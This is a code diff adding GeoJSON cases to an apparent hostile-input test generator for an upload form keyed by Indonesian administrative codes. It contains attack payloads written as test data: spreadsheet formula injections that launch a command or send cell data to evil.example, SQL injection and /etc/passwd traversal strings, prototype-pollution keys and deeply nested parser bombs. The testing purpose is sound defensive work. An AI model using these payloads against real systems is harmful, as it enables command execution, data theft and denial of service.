@@ -279,6 +279,44 @@ function csvOfSize(bytes: number): string {
 const FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '=HYPERLINK("http://evil.example/?"&A1,"klik")', '\t=1+1'];
 
 /** Hostile uploads: wrong formats, broken encodings, the size and row limits, formulas, XML attacks. */
+/** Outline files (GeoJSON keyed by Kemendagri code): broken JSON, wrong shapes, hostile numbers and keys, sizes at the bound. */
+function geojsonValues(field: FieldSpec): HostileValue[] {
+  const maxBytes = field.maxLength ?? 25 * MB;
+  const geojson = (label: string, content: string | Uint8Array) => fileValue(label, 'batas.geojson', 'application/geo+json', content);
+  const ring = [[115.1, -8.5], [115.3, -8.5], [115.3, -8.7], [115.1, -8.7], [115.1, -8.5]];
+  const feature = (properties: unknown, geometry: unknown) => ({ type: 'Feature', properties, geometry });
+  const collection = (...features: unknown[]) => JSON.stringify({ type: 'FeatureCollection', features });
+  const polygon = (coordinates: unknown) => ({ type: 'Polygon', coordinates });
+  const clean = collection(feature({ code: '51.06' }, polygon([ring])));
+  const circle = (n: number) => [...Array.from({ length: n }, (_, i) => [115 + Math.cos((2 * Math.PI * i) / n), -8 + Math.sin((2 * Math.PI * i) / n)]), [116, -8]];
+  const ofSize = (bytes: number) => clean + ' '.repeat(Math.max(0, bytes - Buffer.byteLength(clean)));
+  return [
+    geojson('<empty file>', ''),
+    geojson('<binary junk>', junk(4 * KB)),
+    geojson('<truncated JSON>', clean.slice(0, clean.length / 2)),
+    geojson('<JSON array>', '[1,2,3]'),
+    geojson('<bare geometry>', JSON.stringify(polygon([ring]))),
+    geojson('<features not an array>', JSON.stringify({ type: 'FeatureCollection', features: { 0: 1 } })),
+    geojson('<no features>', collection()),
+    geojson('<2,001 features>', collection(...Array.from({ length: 2_001 }, (_, i) => feature({ code: `51.${i}` }, null)))),
+    geojson('<arrays nested 100,000 deep>', `${'['.repeat(100_000)}${']'.repeat(100_000)}`),
+    geojson('<coordinates nested 5,000 deep>', `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"51.06"},"geometry":{"type":"Polygon","coordinates":${'['.repeat(5_000)}1${']'.repeat(5_000)}}}]}`),
+    geojson('<numbers beyond double (1e309)>', clean.replace('115.1', '1e309')),
+    geojson('<coordinates as strings>', collection(feature({ code: '51.06' }, polygon([ring.map(([x, y]) => [String(x), String(y)])])))),
+    geojson('<closed ring of 500,001 positions, one over>', collection(feature({ code: '51.06' }, polygon([circle(500_000)])))),
+    geojson('<__proto__ and constructor properties>', `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"__proto__":{"admin":true},"constructor":"x","code":"51.06"},"geometry":${JSON.stringify(polygon([ring]))}}]}`),
+    geojson('<code as an object, an array, a boolean>', collection(feature({ code: { a: 1 } }, polygon([ring])), feature({ code: ['51'] }, polygon([ring])), feature({ code: true }, polygon([ring])))),
+    geojson('<codes of SQL and path text>', collection(feature({ code: "51' or 1=1 --" }, polygon([ring])), feature({ code: '../../etc/passwd' }, polygon([ring])))),
+    geojson('<NUL in a property>', collection(feature({ code: '51.06', name: 'Bang\u0000li' }, polygon([ring])))),
+    geojson('<UTF-16 with a byte order mark>', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(clean, 'utf16le')])),
+    geojson('<clean, with a byte order mark>', `\uFEFF${clean}`),
+    geojson(`<file of exactly ${maxBytes} bytes>`, ofSize(maxBytes)),
+    geojson(`<file of ${maxBytes + 1} bytes, one over>`, ofSize(maxBytes + 1)),
+    geojson('<PDF>', '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
+    geojson('<gzip of a clean file>', gzipSync(clean)),
+  ];
+}
+
 function spreadsheetValues(field: FieldSpec): HostileValue[] {
   const maxBytes = field.maxLength ?? 5 * MB;
   const clean = csv([IMPORT_HEADER, unitRow('Panwascam Susut (hostile)')]);
@@ -551,6 +589,7 @@ const KIND_VALUES: Record<FieldKind, (field: FieldSpec) => HostileValue[]> = {
     text('<a digit then punctuation>', '0 ....----(((('),
   ],
   spreadsheet: spreadsheetValues,
+  geojson: geojsonValues,
   upload: uploadValues,
   date: () => [
     text('<February 30>', '2024-02-30'),
